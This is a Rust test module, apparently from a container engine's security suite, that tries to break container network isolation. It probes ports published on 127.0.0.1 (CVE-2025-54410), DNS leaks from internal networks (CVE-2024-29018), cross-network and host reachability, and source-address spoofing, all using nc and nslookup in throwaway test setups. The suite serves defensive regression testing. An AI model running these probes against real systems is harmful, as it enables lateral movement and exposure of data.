//! Other machines, and containers that are nobody's neighbours.

use std::{
    io::Write,
    net::{TcpListener, UdpSocket},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread,
    time::Duration,
};

use tests::{engine::eventually, machine::Machine};

use crate::{
    attack::{Attack, Outcome, SECRET, Scene},
    files::Detached,
};

const FAMILY: &str = "networks";

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name: &str, cve, off, act: fn(&Scene) -> Outcome| {
        Attack::new((FAMILY, name), cve, off, move |scene| {
            if scene.target.is_engine() { act(scene) } else { Outcome::Not("it has no networks".to_owned()) }
        })
    };
    vec![
        attack(
            "a port that is published on 127.0.0.1 is reached from another machine",
            "CVE-2025-54410",
            "-p PORT:80",
            published,
        ),
        attack("a port that nobody published is reached from another machine", "", "-p PORT:80", unpublished),
        attack("a container of another network is reached", "", "the same network", between),
        attack(
            "a container of an internal network asks the world for names",
            "CVE-2024-29018",
            "a network that is not internal",
            names,
        ),
        attack("a container of an internal network reaches another machine", "", "a network that is not internal", out),
        attack(
            "a container of an internal network reaches a server of the host",
            "",
            "a network that is not internal",
            host,
        ),
        attack("a container claims another machine's address", "", "a route that leads there by its bridge", claim),
    ]
}

/// Another machine on a wire to this one.
struct Outside {
    machine: Machine,
    here: String,
    there: String,
}

impl Outside {
    fn new(scene: &Scene) -> Self {
        let number = 1 + scene.id % 250;
        let (here, there) = (format!("198.18.{number}.1"), format!("198.18.{number}.2"));
        let machine = Machine::new();
        // The test ends before long: names of links live as long.
        let name: &'static str = Box::leak(format!("attack{number}").into_boxed_str());
        Machine::inside_this().connect(name, &format!("{here}/24"), &machine, &format!("{there}/24"));
        Self { machine, here, there }
    }
}

/// A container that tells its secret at port 80.
fn server<'a>(scene: &'a Scene, flags: &[&str]) -> (Detached<'a>, String) {
    let program = format!("while :; do echo '{SECRET}' | nc -l -p 80; done");
    let container = Detached::start(scene, flags, "bb", &["sh", "-c", &program]);
    let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}";
    let address = scene.target.engine(&["inspect", "-f", format, &container.name]).ok().trim().to_owned();
    eventually("it listens", || container.exec(&["sh", "-c", "nc 127.0.0.1 80 </dev/null"]).out.contains(SECRET));
    (container, address)
}

fn free_port() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.local_addr().expect("an address").port().to_string()
}

/// Whether one of the ways leads to the secret.
fn told(from: &Machine, ways: &[String]) -> Outcome {
    let mut last = String::new();
    for way in ways {
        for turn in 0..20 {
            let said = from.read_from(way);
            last = format!("{way}: {said:?}");
            match said {
                Ok(text) if Scene::tells(&text) => return Outcome::Through(last),
                // The server listens for one caller at a time, and its next one is a process that has to start.
                Err(std::io::ErrorKind::ConnectionRefused) => thread::sleep(Duration::from_millis(10 * turn)),
                _ => break,
            }
        }
    }
    Outcome::Stopped(last)
}

fn published(scene: &Scene) -> Outcome {
    let (outside, port) = (Outside::new(scene), free_port());
    let publish = if scene.is_on() { format!("127.0.0.1:{port}:80") } else { format!("{port}:80") };
    let (_container, address) = server(scene, &["-p", &publish]);
    outside.machine.route(&format!("{address}/32"), &outside.here);
    let ways = [format!("{}:{port}", outside.here), format!("{address}:80")];
    told(&outside.machine, &ways)
}

fn unpublished(scene: &Scene) -> Outcome {
    let (outside, port) = (Outside::new(scene), free_port());
    let publish = format!("{port}:80");
    let flags: &[&str] = if scene.is_on() { &[] } else { &["-p", &publish] };
    let (_container, address) = server(scene, flags);
    outside.machine.route(&format!("{address}/32"), &outside.here);
    let way = if scene.is_on() { format!("{address}:80") } else { format!("{}:{port}", outside.here) };
    told(&outside.machine, &[way])
}

/// A network of the scene's, which goes with it.
struct Network<'a>(&'a Scene<'a>, String);

impl<'a> Network<'a> {
    fn new(scene: &'a Scene, name: &str, flags: &[&str]) -> Self {
        let name = scene.name(name);
        scene.target.engine(&[&["network", "create"], flags, &[&name]].concat()).ok();
        Self(scene, name)
    }
}

impl Drop for Network<'_> {
    fn drop(&mut self) {
        self.0.target.engine(&["network", "rm", &self.1]);
    }
}

fn ask(scene: &Scene, flags: &[&str], script: &str) -> String {
    let said = scene.target.engine(&[&["run", "--rm"], flags, &["bb", "sh", "-c", script]].concat());
    said.out + &said.err
}

fn between(scene: &Scene) -> Outcome {
    let (one, other) = (Network::new(scene, "one", &[]), Network::new(scene, "other", &[]));
    let (_container, address) = server(scene, &["--network", &one.1]);
    let from = if scene.is_on() { &other.1 } else { &one.1 };
    let all = ask(scene, &["--network", from], &format!("nc -w 2 {address} 80 </dev/null"));
    Outcome::of(Scene::tells(&all), all)
}

fn inner<'a>(scene: &'a Scene) -> Network<'a> {
    Network::new(scene, "inner", if scene.is_on() { &["--internal"] } else { &[] })
}

fn names(scene: &Scene) -> Outcome {
    let (outside, inner) = (Outside::new(scene), inner(scene));
    let address = format!("{}:53", outside.there);
    let socket = outside.machine.run(move || UdpSocket::bind(address)).expect("bind");
    socket.set_read_timeout(Some(Duration::from_millis(200))).expect("a limit");
    let (heard, done) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)));
    let listener = {
        let (heard, done) = (Arc::clone(&heard), Arc::clone(&done));
        thread::spawn(move || {
            let mut packet = [0; 1500];
            while !done.load(Ordering::Relaxed) {
                if let Ok(length) = socket.recv(&mut packet) {
                    heard.fetch_or(packet[..length].windows(6).any(|word| word == b"secret"), Ordering::Relaxed);
                }
            }
        })
    };
    let look = "timeout 4 nslookup secret.example; timeout 2 nslookup secret.example 127.0.0.11";
    let all = ask(scene, &["--network", &inner.1, "--dns", &outside.there], look);
    done.store(true, Ordering::Relaxed);
    listener.join().expect("the listener");
    Outcome::of(heard.load(Ordering::Relaxed), all)
}

/// Something of a container's networks.
fn of_networks(container: &Detached, scene: &Scene, what: &str) -> String {
    let format = format!("{{{{range .NetworkSettings.Networks}}}}{{{{.{what}}}}}{{{{end}}}}");
    scene.target.engine(&["inspect", "-f", &format, &container.name]).ok().trim().to_owned()
}

fn host(scene: &Scene) -> Outcome {
    let inner = inner(scene);
    let container = Detached::start(scene, &["--network", &inner.1], "bb", &["sleep", "1000"]);
    let gateway = ["network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", &inner.1];
    let gateway = scene.target.engine(&gateway).ok().trim().to_owned();
    let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
    let port = listener.local_addr().expect("an address").port();
    thread::spawn(move || {
        // Until the test ends.
        while let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(SECRET.as_bytes());
        }
    });
    let said = container.exec(&["sh", "-c", &format!("nc -w 2 {gateway} {port} </dev/null")]);
    let all = said.out + &said.err;
    Outcome::of(Scene::tells(&all), all)
}

fn claim(scene: &Scene) -> Outcome {
    let network = Network::new(scene, "net", &[]);
    let container = Detached::start(scene, &["--network", &network.1], "bb", &["sleep", "1000"]);
    let (own, gateway) = (of_networks(&container, scene, "IPAddress"), of_networks(&container, scene, "Gateway"));
    let other = format!("198.18.{}.9", 251 + scene.id % 5);
    if !scene.is_on() {
        Machine::inside_this().route(&format!("{other}/32"), &own);
    }
    let socket = UdpSocket::bind(format!("{gateway}:0")).expect("bind");
    socket.set_read_timeout(Some(tests::patience(20))).expect("a limit");
    let port = socket.local_addr().expect("an address").port().to_string();
    // The second one comes, so that it is known when the first one does not.
    for source in [&other, &own] {
        container.exec(&["/attack/claim", source, &gateway, &port, "here"]).ok();
    }
    let mut sources = Vec::new();
    while !sources.contains(&own) {
        sources.push(socket.recv_from(&mut [0; 16]).expect("a datagram").1.ip().to_string());
    }
    Outcome::of(sources.contains(&other), format!("heard from {}", sources.join(", ")))
}

fn out(scene: &Scene) -> Outcome {
    let (outside, inner) = (Outside::new(scene), inner(scene));
    outside.machine.tell_the_source_at(&format!("{}:99", outside.there));
    let all = ask(scene, &["--network", &inner.1], &format!("nc -w 2 {} 99 </dev/null && echo OUT", outside.there));
    Outcome::of(all.contains(&outside.here) || all.contains("OUT"), all)
}
